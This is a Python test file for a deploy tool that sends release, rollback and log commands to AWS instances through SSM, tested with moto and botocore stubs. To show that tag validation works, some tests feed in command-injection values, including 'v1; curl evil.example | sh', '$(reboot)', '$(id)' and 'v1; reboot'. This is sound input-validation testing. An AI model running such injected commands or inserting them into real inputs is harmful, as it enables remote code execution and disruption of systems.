"""release/rollback/logs go through SSM Run Command to the stack's instances.

moto records what send_command was asked (document, instances, command) but runs
nothing and always reports Success, so the failure path is tested at the boto3
boundary with botocore's Stubber.
"""

from __future__ import annotations

import boto3
import click
import pytest
from botocore.stub import Stubber

from ragstream.deploy.aws import AwsClients
from ragstream.deploy.cli import _run_host
from ragstream.deploy.release import (
    logs_command,
    release_command,
    rollback_command,
    run_on_stack,
)
from ragstream.deploy.settings import DeploySettings
from ragstream.errors import ConfigError
from tests.deploy.helpers import launch

COMMAND_ID = "0b5f6a51-6c52-4d2b-9d3e-2f1a7c9e8d10"


@pytest.mark.aws
def test_release_sends_the_host_command_to_the_stack_instances_only(account):
    ours = launch(account.aws, account.ami, "rs-test")
    other = launch(account.aws, account.ami, "someone-else")

    result = account.run("release", "--tag", "0123abc-dirty")
    assert result.exit_code == 0, result.output
    assert f"[{ours}] Success (exit 0)" in result.output
    assert other not in result.output  # we wait on (and so sent to) our instance only
    assert account.run("rollback", "--to", "v1").exit_code == 0
    assert account.run("logs", "--tail", "20").exit_code == 0

    commands = account.aws.client("ssm").list_commands()["Commands"]
    agent = [c for c in commands if c["DocumentName"] == "rs-test-host-agent"]
    by_action = {(c["Parameters"]["action"][0], c["Parameters"]["ref"][0]): c for c in agent}
    release = by_action[("release", "0123abc-dirty")]
    # (moto lists every instance under InstanceIds when no Targets are given, so the exact
    # InstanceIds sent are asserted with the Stubber below)
    assert ours in release["InstanceIds"]
    assert ("rollback", "v1") in by_action
    # only the admin's `logs` is a shell command
    (shell,) = [c for c in commands if c["DocumentName"] == "AWS-RunShellScript"]
    assert "docker logs --tail 20" in shell["Parameters"]["commands"][0]


@pytest.mark.aws
def test_release_without_an_instance_says_to_apply(account):
    result = account.run("release", "--tag", "v1")
    assert result.exit_code == 1
    assert "has no running instance" in str(result.exception)
    assert "run `ragstream deploy apply` first" in str(result.exception)


def test_tags_are_checked_before_anything_is_sent():
    with pytest.raises(ConfigError, match="is not a Docker tag"):
        release_command("v1; curl evil.example | sh")
    with pytest.raises(ConfigError, match="give a tag or a digest"):
        rollback_command("$(reboot)")
    assert str(release_command("abc")) == "/usr/local/bin/ragstream-host release abc"
    assert rollback_command("sha256:" + "a" * 64).ref == "sha256:" + "a" * 64
    assert "docker logs --tail 50" in logs_command(50)
    with pytest.raises(ConfigError):
        logs_command(0)


@pytest.fixture
def stubbed(monkeypatch):
    """AwsClients whose ec2 and ssm answer from Stubber queues (no network at all)."""
    for name, value in {"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    clients = AwsClients(DeploySettings(region="eu-west-1", stack="rs-test"))
    session = boto3.Session(region_name="eu-west-1")
    clients.__dict__["ec2"] = session.client("ec2")
    clients.__dict__["ssm"] = session.client("ssm")
    ec2, ssm = Stubber(clients.ec2), Stubber(clients.ssm)
    ec2.add_response(
        "describe_instances",
        {"Reservations": [{"Instances": [{"InstanceId": "i-0abc", "State": {"Name": "running"}}]}]},
    )
    ssm.add_response(
        "send_command",
        {"Command": {"CommandId": COMMAND_ID}},
        {
            "InstanceIds": ["i-0abc"],
            "DocumentName": "rs-test-host-agent",
            "Comment": "ragstream deploy, stack rs-test",
            "Parameters": {"action": ["release"], "ref": ["v2"]},
            "TimeoutSeconds": 900,
        },
    )
    ssm.add_client_error("get_command_invocation", "InvocationDoesNotExist")
    ssm.add_response("get_command_invocation", {"Status": "InProgress"})
    ssm.add_response(
        "get_command_invocation",
        {
            "Status": "Failed",
            "ResponseCode": 1,
            "StandardOutputContent": "pulling v2\n",
            "StandardErrorContent": "health check failed after 180s",
        },
    )
    with ec2, ssm:
        yield clients
        ec2.assert_no_pending_responses()
        ssm.assert_no_pending_responses()


def test_a_failed_invocation_is_a_failure(stubbed):
    waits: list[float] = []
    (result,) = run_on_stack(stubbed, "rs-test", release_command("v2"), sleep=waits.append)
    assert (result.status, result.exit_code, result.ok) == ("Failed", 1, False)
    assert result.stderr == "health check failed after 180s"
    assert len(waits) == 2  # not yet registered, then in progress


def test_the_cli_exits_non_zero_and_shows_the_output(stubbed, monkeypatch, capsys):
    monkeypatch.setattr("ragstream.deploy.release.time.sleep", lambda seconds: None)

    class FakeDeployer:
        clients = stubbed
        settings = DeploySettings(stack="rs-test")

    with pytest.raises(click.ClickException, match="release failed on i-0abc"):
        _run_host(FakeDeployer(), release_command("v2"), "release")
    out, err = capsys.readouterr()
    assert "[i-0abc] Failed (exit 1)" in out and "pulling v2" in out
    assert "health check failed after 180s" in err


def test_the_document_runs_the_agent_only_with_checked_parameters():
    import re

    from ragstream.deploy.document import ACTIONS, REF_PATTERN, document

    body = document()
    (step,) = body["mainSteps"]
    assert step["inputs"]["runCommand"] == [
        '/usr/local/bin/ragstream-host --ref "{{ ref }}" {{ action }}'
    ]
    assert body["parameters"]["action"]["allowedValues"] == list(ACTIONS)
    for good in ("", "v1.2", "0123abc-dirty", "sha256:" + "0" * 64):
        assert re.fullmatch(REF_PATTERN, good), good
    for bad in ("v1; reboot", "$(id)", "`id`", 'a"b', "a b", "-rf", "sha256:xyz", "a\nb"):
        assert not re.fullmatch(REF_PATTERN, bad), bad
